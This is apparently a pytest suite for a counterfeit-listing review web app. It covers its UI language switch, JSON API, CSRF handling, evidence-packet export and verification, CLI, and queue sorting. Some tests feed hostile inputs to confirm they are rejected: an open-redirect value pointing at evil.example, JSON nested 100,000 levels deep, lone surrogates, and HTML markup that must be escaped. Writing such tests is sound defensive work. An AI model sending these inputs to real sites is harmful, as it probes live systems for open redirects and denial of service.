    page = client.get("/?since=all").text
    assert "Review queue" in page and "lookalike mark" in page and 'lang="en"' in page
    client.get("/lang/zh_CN")
    assert "待审队列" in client.get("/?since=all").text
    assert (
        client.get("/lang/en?next=https://evil.example/", follow_redirects=False).headers["location"] == "/"
    )


def test_every_template_message_is_in_the_catalogue_in_both_languages() -> None:
    from pathlib import Path

    from review.i18n import MESSAGES

    templates = Path(__file__).resolve().parents[1] / "review" / "templates"
    used = set()
    for path in templates.rglob("*.html"):  # the digest's section templates too
        used |= set(re.findall(r"""\bt\('([a-z_.0-9]*[a-z0-9])'""", path.read_text(encoding="utf-8")))
    missing = sorted(k for k in used if k not in MESSAGES)
    assert not missing
    assert all(zh and en and zh != en for zh, en in MESSAGES.values())


# --- JSON API ---------------------------------------------------------------------------------------------


@pytest.fixture
def token(cli, world) -> str:  # type: ignore[no-untyped-def]
    result = cli("users", "token", "审核员")
    assert result.exit_code == 0, result.stderr
    return result.stdout.strip()


def test_api_with_a_bearer_token(client: TestClient, token: str, world, db) -> None:
    headers = {"Authorization": f"Bearer {token}"}
    listing = client.get("/api/v1/leads", params={"brand": "李宁"}, headers=headers).json()
    assert listing["total"] == 1
    item = listing["items"][0]
    for key in ("id", "brand", "status", "risk", "violation", "department", "title", "url", "platform"):
        assert key in item
    assert item["title"] == "李宁 运动鞋 高仿 1:1" and item["platform"] == "demo-static"
    detail = client.get(f"/api/v1/leads/{world['ksf']}", headers=headers).json()
    assert detail["reasons"][0]["detail"].startswith("康帅傅") and detail["events"][0]["action"] == "flagged"
    # a Bearer token is no ambient credential: no CSRF token needed
    decided = client.post(
        f"/api/v1/leads/{world['ksf']}/decision",
        json={"action": "dismiss", "note": "误报：正品"},
        headers=headers,
    )
    assert decided.status_code == 200 and decided.json()["status"] == "dismissed"
    refused = client.post(
        f"/api/v1/leads/{world['ksf_low']}/decision", json={"action": "dismiss"}, headers=headers
    )
    assert refused.status_code == 400 and "reason" in refused.json()["detail"]
    assert client.get("/api/v1/leads", headers={"Authorization": "Bearer mwt_wrong"}).status_code == 401
    with db.session() as s:
        from storage.models import ApiToken

        stored = s.query(ApiToken).one()
        assert stored.token_hash != token and token not in stored.token_hash and stored.last_used_at


def test_api_bodies_that_are_not_json_get_415_and_nothing_changes(
    client: TestClient, token: str, world
) -> None:
    headers = {"Authorization": f"Bearer {token}"}
    path = f"/api/v1/leads/{world['ksf']}/decision"
    plain = client.post(path, content="确认", headers={**headers, "Content-Type": "text/plain"})
    assert plain.status_code == 415 and "JSON" in plain.json()["detail"]
    form = client.post("/api/v1/brands", data={"name": "康师傅"}, headers=headers)
    assert form.status_code == 415 and "application/json" in form.json()["detail"]
    binary = client.post(path, content=b"\xff\xfe\x00", headers={**headers, "Content-Type": "image/png"})
    assert binary.status_code == 415
    assert client.get(f"/api/v1/leads/{world['ksf']}", headers=headers).json()["status"] == "new"


def test_api_bodies_with_a_lone_surrogate_get_422(client: TestClient, cli, world) -> None:
    owner = {"Authorization": f"Bearer {cli('users', 'token', '康师傅权利人').stdout.strip()}"}
    body = '{"name": "康师傅\\ud800", "aliases": ["\\udfff"]}'
    response = client.post(
        "/api/v1/brands", content=body, headers={**owner, "Content-Type": "application/json"}
    )
    assert response.status_code == 422 and "surrogate" in response.json()["detail"]


@pytest.mark.parametrize("depth", [400, 100_000])
def test_api_bodies_nested_too_deep_get_422(client: TestClient, cli, world, depth: int) -> None:
    owner = {"Authorization": f"Bearer {cli('users', 'token', '康师傅权利人').stdout.strip()}"}
    deep = "[" * depth + "]" * depth
    body = '{"name": "深层品牌", "aliases": ' + deep + "}"
    response = client.post(
        "/api/v1/brands", content=body, headers={**owner, "Content-Type": "application/json"}
    )
    assert response.status_code == 422 and "deep" in response.json()["detail"]
    names = [b["name"] for b in client.get("/api/v1/brands", headers=owner).json()]
    assert "深层品牌" not in names


def test_api_post_with_a_session_cookie_needs_the_csrf_header(client: TestClient, world) -> None:
    login(client, "审核员")
    path = f"/api/v1/leads/{world['ksf']}/decision"
    assert client.post(path, json={"action": "confirm"}).status_code == 403
    ok = client.post(
        path, json={"action": "confirm"}, headers={"X-CSRF-Token": csrf_of(client, "/?since=all")}
    )
    assert ok.status_code == 200 and ok.json()["status"] == "confirmed"


def test_api_brands(client: TestClient, cli, world) -> None:
    owner_token = cli("users", "token", "康师傅权利人").stdout.strip()
    headers = {"Authorization": f"Bearer {owner_token}"}
    assert [b["name"] for b in client.get("/api/v1/brands", headers=headers).json()] == ["康师傅"]
    created = client.post("/api/v1/brands", json={"name": "康帥傅", "aliases": ["KSF"]}, headers=headers)
    assert created.status_code == 201 and created.json()["status"] == "pending"
    bad = client.post(
        "/api/v1/brands",
        json={"name": "坏", "registrations": [{"number": "1", "nice_class": 50}]},
        headers=headers,
    )
    assert bad.status_code == 422
    reviewer = cli("users", "token", "审核员").stdout.strip()
    assert (
        client.post(
            "/api/v1/brands", json={"name": "某"}, headers={"Authorization": f"Bearer {reviewer}"}
        ).status_code
        == 403
    )


def test_api_refuses_a_brand_with_an_unknown_key_and_names_it(client: TestClient, cli, db) -> None:
    owner_token = cli("users", "token", "康师傅权利人").stdout.strip()
    headers = {"Authorization": f"Bearer {owner_token}"}
    bogus = client.post("/api/v1/brands", json={"name": "茅苔2", "bogus": 1}, headers=headers)
    assert bogus.status_code == 422 and "unknown key `bogus`" in bogus.json()["detail"]
    typo = client.post("/api/v1/brands", json={"name": "茅苔3", "alias": ["MT"]}, headers=headers)
    assert typo.status_code == 422 and "did you mean `aliases`" in typo.json()["detail"]
    nested = client.post(
        "/api/v1/brands",
        json={"name": "茅苔4", "registrations": [{"number": "1", "nice_class": 33, "klass": 33}]},
        headers=headers,
    )
    assert nested.status_code == 422 and "unknown key `klass`" in nested.json()["detail"]
    with db.session() as s:
        from storage.brands import get_brand

        assert all(get_brand(session=s, name=n) is None for n in ("茅苔2", "茅苔3", "茅苔4"))
    schema = client.get("/openapi.json", headers=headers).json()["components"]["schemas"]
    assert schema["BrandCreate"]["additionalProperties"] is False
    assert schema["RegistrationIn"]["additionalProperties"] is False


def test_api_evidence_packet(client: TestClient, token: str, world, db) -> None:
    response = client.get(
        f"/api/v1/leads/{world['ksf']}/evidence", headers={"Authorization": f"Bearer {token}"}
    )
    assert response.status_code == 200, response.text
    assert response.headers["content-type"] == "application/zip"
    names = zipfile.ZipFile(io.BytesIO(response.content)).namelist()
    assert "manifest.json" in names
    # the same file name as `markwatch evidence export` writes by default
    assert re.search(
        rf'filename="markwatch-lead-{world["ksf"]}-\d{{8}}-\d{{6}}\.zip"',
        response.headers["content-disposition"],
    )
    refused = client.get(
        f"/api/v1/leads/{world['ksf']}/evidence",
        params={"witness": "没有这个人"},
        headers={"Authorization": f"Bearer {token}"},
    )
    assert refused.status_code == 400 and "没有这个人" in refused.text
    with db.session() as s:
        assert (
            s.query(ReviewEvent)
            .filter(ReviewEvent.lead_id == world["ksf"], ReviewEvent.action != "flagged")
            .count()
        )


def test_an_evidence_export_from_an_english_page_has_an_english_report(
    client: TestClient, token: str, world, tmp_path: Path
) -> None:
    if not shutil.which("pdftotext"):
        pytest.skip("poppler-utils (pdftotext) not installed on this machine (make test installs it)")

    def report_text(lang: str) -> str:
        client.cookies.set("mw_lang", lang)  # the language the page was shown in
        response = client.get(
            f"/api/v1/leads/{world['ksf']}/evidence", headers={"Authorization": f"Bearer {token}"}
        )
        assert response.status_code == 200, response.text
        pdf = tmp_path / f"report-{lang}.pdf"
        pdf.write_bytes(zipfile.ZipFile(io.BytesIO(response.content)).read("report.pdf"))
        return subprocess.run(["pdftotext", str(pdf), "-"], capture_output=True, text=True, check=True).stdout

    english = report_text("en")
    assert "Electronic data extraction record" in english and "Extracted by" in english
    assert "电子数据提取笔录" not in english and "基本情况" not in english
    chinese = report_text("zh_CN")
    assert "电子数据提取笔录" in chinese and "Electronic data extraction record" not in chinese


def test_api_evidence_is_refused_to_brand_owners(client: TestClient, cli, world) -> None:
    owner = cli("users", "token", "康师傅权利人").stdout.strip()
    response = client.get(
        f"/api/v1/leads/{world['ksf']}/evidence", headers={"Authorization": f"Bearer {owner}"}
    )
    assert response.status_code == 403


def test_openapi_lists_the_api_behind_login_with_swagger_ui_served_locally(client: TestClient) -> None:
    for path in ("/openapi.json", "/docs"):
        anonymous = client.get(path, follow_redirects=False)
        assert anonymous.status_code == 303 and anonymous.headers["location"].startswith("/login?next=")
    login(client, "审核员")
    docs = client.get("/docs")
    assert docs.status_code == 200 and "http" not in docs.headers["content-security-policy"]
    assets = re.findall(r'(?:href|src)="([^"]+)"', docs.text)
    assert assets and all(a.startswith("/docs-assets/") for a in assets), assets  # no CDN
    for asset in assets:
        assert client.get(asset).status_code == 200, asset
    paths = client.get("/openapi.json").json()["paths"]
    for path in (
        "/api/v1/leads",
        "/api/v1/leads/{lead_id}",
        "/api/v1/leads/{lead_id}/decision",
        "/api/v1/leads/{lead_id}/evidence",
        "/api/v1/brands",
    ):
        assert path in paths
    assert "/leads/{lead_id}" not in paths  # pages are not API


# --- command line ----------------------------------------------------------------------------------------


def test_users_add_with_password_from_stdin(cli, db, monkeypatch) -> None:  # type: ignore[no-untyped-def]
    monkeypatch.setattr("sys.stdin", io.StringIO("长长的密码-123\n"))
    result = cli("users", "add", "新审核员", "--role", "reviewer", "--password-stdin")
    assert result.exit_code == 0 and "新审核员" in result.stdout and "one-time" not in result.stdout
    generated = cli("users", "add", "另一位", "--role", "investigator")
    assert generated.exit_code == 0 and "one-time password:" in generated.stdout
    assert cli("users", "add", "新审核员", "--role", "reviewer").exit_code == 2
    assert cli("users", "add", "权利人", "--role", "brand_owner").exit_code == 2
    assert cli("users", "add", "权利人", "--role", "brand_owner", "--brand", "不存在").exit_code == 2
    assert cli("users", "add", "谁", "--role", "superuser").exit_code == 2
    assert cli("users", "token", "没有这个人").exit_code == 2


# --- PostgreSQL ------------------------------------------------------------------------------------------


@pytest.mark.postgres
def test_queue_filters_decisions_and_api_on_postgresql(pg_url: str) -> None:
    from review.app import create_app
    from storage import open_database
    from storage.migrate import upgrade

    database = open_database(check=False)
    upgrade(database.engine)
    with database.session() as s:
        make_brand(s, "康师傅")
        make_user(s, "审核员", role="reviewer")
        first = make_lead(s, title="康帅傅 红烧牛肉面 PG").id
        make_lead(s, score=ScoreStub(risk=0.6), title="康师傅 老坛酸菜 PG")
    client = login(TestClient(create_app()), "审核员")
    page = client.get("/?since=all&q=老坛&risk_min=50").text
    assert "共 1 条线索" in page and "康师傅（1）" in page
    assert (
        post_form(client, f"/leads/{first}/decision", {"action": "confirm", "note": "确认假冒"}).status_code
        == 303
    )
    assert "已确认" in client.get(f"/leads/{first}").text
    assert "康帅傅" in client.get("/export.csv?since=all&status=all").content.decode("utf-8-sig")
    assert client.get("/digest").status_code == 200


def test_brand_owner_does_not_see_the_sellers_other_listings(client: TestClient, db) -> None:
    seller = {"id": "s-mixed", "name": "杂货铺"}
    with db.session() as s:
        own = make_lead(s, seller=seller, title="康帅傅 方便面 杂货铺").id
        make_lead(s, seller=seller, title="李宁 高仿球鞋 杂货铺", score=ScoreStub(brand="李宁"))
    login(client, "审核员")
    assert "李宁 高仿球鞋" in client.get(f"/leads/{own}").text
    owner = login(TestClient(client.app), "康师傅权利人")
    assert "李宁 高仿球鞋" not in owner.get(f"/leads/{own}").text


# --- end to end: from `markwatch score --queue` through the web app to a verified packet ---------------


def test_scored_feed_lead_is_confirmed_exported_and_verified(cli, db, tmp_path) -> None:  # type: ignore[no-untyped-def]
    import json

    from review.app import create_app
    from review.evidence import verify_packet

    registry = tmp_path / "brands.yaml"
    registry.write_text(
        "brands:\n  - name: 康师傅\n    aliases: [Master Kong]\n"
        "    categories: [方便面]\n    price_floor: 3.0\n",
        encoding="utf-8",
    )
    assert cli("brands", "import", str(registry)).exit_code == 0
    feed = tmp_path / "feed.jsonl"
    record = {
        "id": "feed:1",
        "platform": "feed",
        "url": "http://127.0.0.1:8801/item/1",
        "title": "康帅傅 红烧牛肉面 高仿 原单 5连包",
        "price": 1.5,
        "category": "方便面",
        "seller": {"id": "s-1", "name": "好味食品店"},
        "sold": 300,
    }
    feed.write_text(json.dumps(record, ensure_ascii=False) + "\n", encoding="utf-8")
    scored = cli("score", str(feed), "--queue")
    assert scored.exit_code == 0, scored.stderr
    assert json.loads(scored.stdout.splitlines()[0])["flagged"] is True
    with db.session() as s:
        make_user(s, "审核员", role="reviewer")
        lead_id = s.query(Lead).one().id
    client = login(TestClient(create_app()), "审核员")
    queue = client.get("/?since=all").text
    assert "康帅傅 红烧牛肉面" in queue
    assert (
        post_form(client, f"/leads/{lead_id}/decision", {"action": "confirm", "note": "假冒"}).status_code
        == 303
    )
    packet = client.get(f"/api/v1/leads/{lead_id}/evidence")
    assert packet.status_code == 200
    assert verify_packet(packet.content).ok
    tampered = bytearray(packet.content)
    tampered[len(tampered) // 3] ^= 0x01  # one byte of the packet changed
    assert not verify_packet(bytes(tampered)).ok


def test_free_text_finds_titles_seller_names_and_lead_numbers(client: TestClient, world) -> None:
    login(client, "审核员")
    assert "共 1 条线索" in client.get("/?since=all&q=黑店").text  # the hostile seller's name
    by_number = client.get(f"/?since=all&q=%23{world['lining']}").text
    assert "共 1 条线索" in by_number and "李宁 运动鞋" in by_number
    assert "共 0 条线索" in client.get("/?since=all&q=100%25_正品").text  # % and _ are literal
    api = client.get("/api/v1/leads", params={"q": "运动鞋"}).json()
    assert [item["title"] for item in api["items"]] == ["李宁 运动鞋 高仿 1:1"]


def test_queue_sorts_by_column_shows_the_top_reason_and_ranks_risk_to_one_decimal(
    client: TestClient, db, world
) -> None:
    with db.session() as s:
        make_lead(s, score=ScoreStub(risk=0.9978), title="康师傅 几乎确定 甲", price=1.5, sold=None)
        make_lead(
            s,
            score=ScoreStub(
                risk=0.9999,
                reasons=(ReasonStub("cue_words", 0.9, "<b>高仿</b>原单尾货，同款同款同款同款同款同款同款"),),
            ),
            title="康师傅 几乎确定 乙",
            price=0.8,
        )
    login(client, "审核员")
    page = client.get("/?status=open").text
    assert "99.9%" in page and "99.8%" in page and "100%" not in page and "90.0%" in page
    assert page.index("几乎确定 乙") < page.index("几乎确定 甲")  # the order is visible in the numbers
    row = page[page.index("几乎确定 乙") :].split("</tr>")[0]
    assert "仿冒暗示词：&lt;b&gt;高仿&lt;/b&gt;" in row and "<b>高仿" not in row  # top reason, escaped
    assert "…" in row  # and short
    cheap = client.get("/?status=open&sort=price").text
    assert cheap.index("几乎确定 乙") < cheap.index("几乎确定 甲")  # 0.80, then 1.50
    assert cheap.index("几乎确定 甲") < cheap.index("李宁 运动鞋")  # then 299
    dear = client.get("/?status=open&sort=-price").text
    assert dear.index("李宁 运动鞋") < dear.index("几乎确定 乙")
    assert dear.index("几乎确定 甲") < dear.index("几乎确定 乙")  # 1.50 before 0.80
    by_sales = client.get("/?status=open&sort=-sold").text
    assert by_sales.index("老坛酸菜") < by_sales.index("李宁 运动鞋")  # 1200 sold before 200
    assert by_sales.index("李宁 运动鞋") < by_sales.index("几乎确定 甲")  # unknown sales last
    assert 'aria-sort="descending"' in by_sales
    assert "共 6 条线索" in client.get("/?status=open&sort=platform").text
    assert "共 6 条线索" in client.get("/?status=open&sort=first_seen").text
    bad = client.get("/?status=open&sort=价格")
    assert bad.status_code == 400 and "排序" in bad.text and "价格" in bad.text
    csv_text = client.get("/export.csv?status=open&sort=price").content.decode("utf-8-sig")
    assert csv_text.index("几乎确定 乙") < csv_text.index("几乎确定 甲")
